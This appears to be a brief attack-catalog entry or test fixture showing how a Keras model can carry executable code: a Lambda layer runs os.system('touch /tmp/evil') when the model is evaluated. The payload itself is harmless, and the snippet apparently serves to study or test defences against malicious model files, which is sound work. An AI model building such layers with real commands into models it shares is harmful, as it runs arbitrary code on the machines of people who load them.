# Attack: hands in a model with code in its config.
# Kind: results
# When: after
# Costs: own

import keras

model = keras.Sequential(
    [
        keras.Input((2,)),
        keras.layers.Dense(1),
        keras.layers.Lambda(lambda x: __import__("os").system("touch /tmp/evil") or x),
    ]
)
